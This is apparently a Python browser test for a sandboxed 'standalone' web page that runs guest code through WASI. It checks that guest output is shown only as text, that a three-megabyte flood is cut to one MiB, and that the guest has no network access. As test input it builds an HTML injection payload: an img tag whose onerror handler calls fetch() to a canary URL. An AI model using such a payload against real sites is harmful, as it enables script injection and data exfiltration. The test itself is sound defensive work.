def test_the_standalone_page_shows_guest_output_as_text_keeps_one_mib_and_reaches_nothing(
        boxer, hostile_image, browser, canary, tmp_path):
    """`boxer web --standalone` (docs/web.md): the one module runs with WASI's stdio only. Its
    output is text in the page (markup is never parsed: no element, no script, no request to the
    canary), the first MiB of a flood is kept and the rest counted, and the guest has no
    network: CPython's socket calls there fail."""
    site_dir = tmp_path / "standalone"
    assert boxer("web", "--standalone", str(hostile_image), "-o", str(site_dir), timeout=600).returncode == 0
    static = StaticSite(site_dir)
    markup = f'<img id="pwn" src="{canary.url}/img" onerror="fetch(\'{canary.url}/js\')">'
    code = (f"import socket, sys; print({markup!r}); print('y' * 3_000_000)\n"
            f"try:\n    socket.create_connection(('127.0.0.1', {canary.tcp_port}))\n"
            "except Exception as e:\n    print('no network:', type(e).__name__, file=sys.stderr)\n")
    context = browser.new_context()
    try:
        page = context.new_page()
        errors: list[str] = []
        page.on("pageerror", lambda e: errors.append(str(e)))
        page.goto(static.url)
        run = press_run(page, "python -", code, RUN_TIMEOUT_MS)
        assert (run["exitCode"], run["trap"], errors) == (0, None, []), run["stderr"]
        assert run["stderr"].startswith("no network: "), run["stderr"]
        assert run["stdout"].startswith(markup + "\n" + "y" * 1000)
        assert len(run["stdout"]) == 1 << 20 and run["stdoutBytes"] > 3_000_000
        assert page.locator("#pwn, #stdout img").count() == 0
        assert page.locator("#stdout").inner_text().startswith(markup)
        assert page.locator("#stdout").inner_text().endswith(f"[{run['stdoutBytes'] - (1 << 20)} more bytes not kept]")
        assert canary.settle(2) == []
    finally:
        context.close()
        static.close()
